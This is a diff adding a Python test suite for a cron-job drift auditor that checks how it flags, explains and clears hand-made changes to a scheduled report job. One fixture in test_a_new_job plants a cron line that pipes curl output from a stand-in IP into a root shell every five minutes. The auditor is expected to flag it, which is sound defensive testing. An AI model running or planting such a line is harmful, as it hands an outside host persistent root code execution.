@@ -1,0 +1,258 @@
+"""One job on one host, changed by hand in every way: found, named, explained, and set back."""
+
+import program
+import scratch
+
+JOBS = """\
+MAILTO=shop@example.com
+# plumbline: id=report
+30 4 * * * www-data timeout 1h /srv/shop/bin/report --daily
+"""
+CRONTAB = "SHELL=/bin/sh\n17 * * * * root /usr/local/sbin/tidy\n"
+TAB = "cron.d/shop"
+FILE = "etc/cron.d/shop"
+DAY = 86400
+BEGIN = 1_800_000_000
+
+
+class HandChange(program.Case):
+    """Truth is what `import` wrote of the host, and a first clean audit has filled the store."""
+
+    def setUp(self):
+        super().setUp()
+        self.host = scratch.Host(self.work / "web")
+        self.host.write("etc/crontab", CRONTAB)
+        self.host.write(FILE, JOBS)
+        scratch.config(self.work, {"web": "{kind: cron, root: ./web}"})
+        self.truth = scratch.Truth(self.work / "truth")
+        self.plumbline("import", "--platform", "web", "--team", "shop", "--out", "truth/workflows")
+        self.truth.commit()
+        self.now = BEGIN
+        self.assertEqual(self.look()["findings"], [])
+
+    def at_once(self, *arguments, code=0):
+        """Another command right after the last audit."""
+        return self.plumbline(*arguments, code=code, env={"SOURCE_DATE_EPOCH": str(self.now + 60)})
+
+    def look(self, *arguments, code=None):
+        """The next hourly audit."""
+        self.now += 3600
+        run = self.run_program(
+            "audit", "--output", "json", *arguments, env={"SOURCE_DATE_EPOCH": str(self.now)}
+        )
+        report = run.json()
+        self.assertEqual(run.code, report["exit_code"], run)
+        if code is not None:
+            self.assertEqual(run.code, code, run)
+        return report
+
+    def only_finding(self, cause, field, code=1):
+        report = self.look(code=code)
+        self.assertEqual(
+            [(f["cause"], f["field"]) for f in report["findings"]], [(cause, field)],
+            [f["message"] for f in report["findings"]],
+        )  # fmt: skip
+        return report["findings"][0]
+
+    def explained(self, finding, *words):
+        text = self.at_once("explain", finding["key"][:12]).out
+        for word in words:
+            self.assertIn(word, text)
+        return text
+
+    def set_back(self, finding, how="set back"):
+        """Undone by hand: the next audit is clean and says how it ended."""
+        self.host.write(FILE, JOBS)
+        report = self.look(code=0)
+        self.assertEqual(report["findings"], [])
+        (resolved,) = report["resolved"]
+        self.assertEqual(resolved["key"], finding["key"])
+        self.assertIn(how, resolved["how"])
+
+    def test_another_time(self):
+        self.host.edit(FILE, "30 4", "45 5")
+        finding = self.only_finding("drifted", "schedule")
+        self.assertIn("45 5 * * *", finding["message"])
+        self.assertEqual(
+            (finding["truth"]["text"], finding["live"]["text"], finding["base"]["text"]),
+            ("30 4 * * * (Europe/Berlin)", "45 5 * * * (Europe/Berlin)", "30 4 * * * (Europe/Berlin)"),
+        )
+        self.assertEqual(finding["live"]["source"]["native_path"], f"{TAB}:3")
+        self.assertTrue(finding["truth"]["source"]["file"].startswith("workflows/web-"))
+        self.explained(finding, "45 5 * * *", "30 4 * * *", f"{TAB}:3", finding["truth"]["source"]["file"])
+        self.set_back(finding)
+
+    def test_paused_by_a_comment(self):
+        self.host.edit(FILE, "30 4", "# 30 4")
+        finding = self.only_finding("drifted", "enabled")
+        self.assertIn("off", finding["message"])
+        self.explained(finding, "off", "on", f"{TAB}:3")
+        self.set_back(finding)
+
+    def test_paused_by_the_marker(self):
+        self.host.edit(FILE, "30 4", "#plumbline:paused# 30 4")
+        finding = self.only_finding("drifted", "enabled")
+        self.assertIn("off", finding["message"])
+        self.set_back(finding)
+
+    def test_another_user(self):
+        self.host.edit(FILE, "www-data", "root")
+        finding = self.only_finding("drifted", "run_as")
+        self.assertIn("root", finding["message"])
+        self.assertIn("www-data", finding["message"])
+        self.explained(finding, "www-data", "root")
+        self.set_back(finding)
+
+    def test_another_time_limit_in_the_wrapper(self):
+        self.host.edit(FILE, "timeout 1h", "timeout 3h")
+        finding = self.only_finding("drifted", "timeout")
+        self.assertIn("3h", finding["message"])
+        self.explained(finding, "3h", "1h")
+        self.set_back(finding)
+
+    def test_the_wrapper_taken_away(self):
+        self.host.edit(FILE, "timeout 1h ", "")
+        finding = self.only_finding("drifted", "timeout")
+        self.assertIn("1h", finding["message"])
+        self.set_back(finding)
+
+    def test_a_lock_that_nobody_declared(self):
+        self.host.edit(FILE, "timeout 1h", "flock -n /run/lock/report timeout 1h")
+        finding = self.only_finding("drifted", "concurrency")
+        self.set_back(finding)
+
+    def test_mail_to_somebody_else(self):
+        self.host.edit(FILE, "shop@example.com", "intern@example.com")
+        finding = self.only_finding("drifted", "notify")
+        self.assertIn("intern@example.com", finding["message"])
+        self.explained(finding, "intern@example.com", "shop@example.com")
+        self.set_back(finding)
+
+    def test_no_mail_any_more(self):
+        self.host.edit(FILE, "shop@example.com", '""')
+        self.set_back(self.only_finding("drifted", "notify"))
+
+    def test_another_command_under_the_same_marker(self):
+        self.host.edit(FILE, "--daily", "--weekly")
+        finding = self.only_finding("drifted", "action")
+        self.set_back(finding)
+
+    def test_a_file_that_moved(self):
+        """The job runs as before; one finding says where it is now."""
+        self.host.path(FILE).rename(self.host.path("etc/cron.d/shop-new"))
+        report = self.look(code=1)
+        message = " ".join(f["message"] + " ".join(f["notes"]) for f in report["findings"])
+        self.assertEqual({f["cause"] for f in report["findings"]} - {"unmanaged"}, {"missing"})
+        self.assertIn("renamed", message)
+        self.assertIn("cron.d/shop-new", message)
+
+    def test_a_mode_that_cron_refuses(self):
+        self.host.path(FILE).chmod(0o664)
+        finding = self.only_finding("ineffective", None)
+        self.assertIn("INSECURE MODE", finding["message"])
+        self.explained(finding, "INSECURE MODE", TAB)
+        self.host.path(FILE).chmod(0o644)
+        self.assertEqual(self.look(code=0)["findings"], [])
+
+    def test_a_name_that_cron_passes_by(self):
+        self.host.path(FILE).rename(self.host.path(FILE + ".bak"))
+        report = self.look(code=1)
+        self.assertIn("missing", {f["cause"] for f in report["findings"]})
+
+    def test_no_newline_at_the_end(self):
+        self.host.write(FILE, JOBS.rstrip("\n"))
+        finding = self.only_finding("ineffective", None)
+        self.assertIn("newline", finding["message"])
+        self.set_back(finding, "made effective")
+
+    def test_a_job_that_was_deleted(self):
+        self.host.write(FILE, "MAILTO=shop@example.com\n")
+        finding = self.only_finding("missing", None)
+        self.explained(finding, "nothing is there", f"{TAB}#report")
+        self.set_back(finding, "")
+
+    def test_a_new_job(self):
+        self.host.write("etc/cron.d/fresh", "*/5 * * * * root curl http://203.0.113.7/x | sh\n")
+        finding = self.only_finding("unmanaged", None, code=0)
+        self.assertIn("cron.d/fresh", finding["message"])
+        self.explained(finding, "import")
+        self.host.path("etc/cron.d/fresh").unlink()
+        self.assertEqual(self.look(code=0)["findings"], [])
+
+    def test_a_change_in_git_that_is_not_rolled_out(self):
+        (file,) = self.truth.root.glob("workflows/*shop*report*.yaml")
+        name = str(file.relative_to(self.truth.root))
+        self.truth.edit(name, "30 4 * * *", "30 3 * * *")
+        self.truth.commit("Earlier")
+        finding = self.only_finding("pending", "schedule")
+        self.assertFalse(finding["base"]["inferred"])
+        self.host.edit(FILE, "30 4", "30 3")
+        (resolved,) = self.look(code=0)["resolved"]
+        self.assertIn("corrected", resolved["how"])
+
+    def test_changed_on_both_sides(self):
+        (file,) = self.truth.root.glob("workflows/*shop*report*.yaml")
+        self.truth.edit(str(file.relative_to(self.truth.root)), "30 4 * * *", "30 3 * * *")
+        self.truth.commit("Earlier")
+        self.host.edit(FILE, "30 4", "30 5")
+        self.only_finding("conflict", "schedule")
+
+    def test_truth_that_follows_ends_the_finding(self):
+        self.host.edit(FILE, "30 4", "30 5")
+        finding = self.only_finding("drifted", "schedule")
+        (file,) = self.truth.root.glob("workflows/*shop*report*.yaml")
+        self.truth.edit(str(file.relative_to(self.truth.root)), "30 4 * * *", "30 5 * * *")
+        self.truth.commit("Follow")
+        (resolved,) = self.look(code=0)["resolved"]
+        self.assertEqual((resolved["key"], resolved["how"]), (finding["key"], "adopted"))
+
+    def test_new_then_open_then_resolved_then_reopened(self):
+        statuses = []
+        self.host.edit(FILE, "30 4", "30 5")
+        first = self.only_finding("drifted", "schedule")
+        statuses.append(first["status"])
+        second = self.only_finding("drifted", "schedule")
+        statuses.append(second["status"])
+        self.set_back(second, "set back by hand")
+        self.host.edit(FILE, "30 4", "30 6")
+        third = self.only_finding("drifted", "schedule")
+        statuses.append(third["status"])
+        self.assertEqual(statuses, ["new", "open", "reopened"])
+        self.assertEqual(first["key"], third["key"])
+        self.assertEqual(first["first_seen"], second["first_seen"])
+        self.assertGreater(third["first_seen"], second["last_seen"])
+
+    def test_only_new_lists_what_is_new_and_the_exit_code_stands_on_all(self):
+        self.host.edit(FILE, "30 4", "30 5")
+        self.look(code=1)
+        self.host.edit("etc/crontab", "17 *", "18 *")
+        text = self.at_once("audit", "--only", "new", code=1).out
+        self.assertIn("18 * * * *", text)
+        self.assertNotIn("30 5 * * *", text)
+        again = self.at_once("audit", "--only", "new", code=1).out
+        self.assertNotIn("18 * * * *", again)
+
+    def test_diff_shows_every_field_of_the_job_side_by_side(self):
+        self.host.edit(FILE, "30 4", "30 5")
+        (file,) = self.truth.root.glob("workflows/*shop*report*.yaml")
+        text = self.at_once("diff", f"shop/{file.stem}", code=1).out
+        for word in ("schedule", "30 4 * * *", "30 5 * * *", "timeout", "1h", "run_as", "www-data", "web"):
+            self.assertIn(word, text)
+        self.assertEqual(self.at_once("diff", file.stem, code=1).out, text)
+        self.assertIn("there is no", self.plumbline("diff", "shop/nothing", code=2).err)
+
+    def test_explain_tells_what_happened_before(self):
+        self.host.edit(FILE, "30 4", "30 5")
+        self.look(code=1)
+        self.host.edit(FILE, "30 5", "30 6")
+        finding = self.only_finding("drifted", "schedule")
+        text = self.explained(finding, "30 5 * * *", "30 6 * * *", "PL1001")
+        self.assertIn("2027-01-15", text)
+
+    def test_explain_refuses_a_key_that_is_none(self):
+        self.assertIn("at least its first four digits", self.plumbline("explain", "ab", code=4).err)
+        self.plumbline("explain", "0123456789abcdef", code=2)
+
+
+if __name__ == "__main__":
+    program.main()
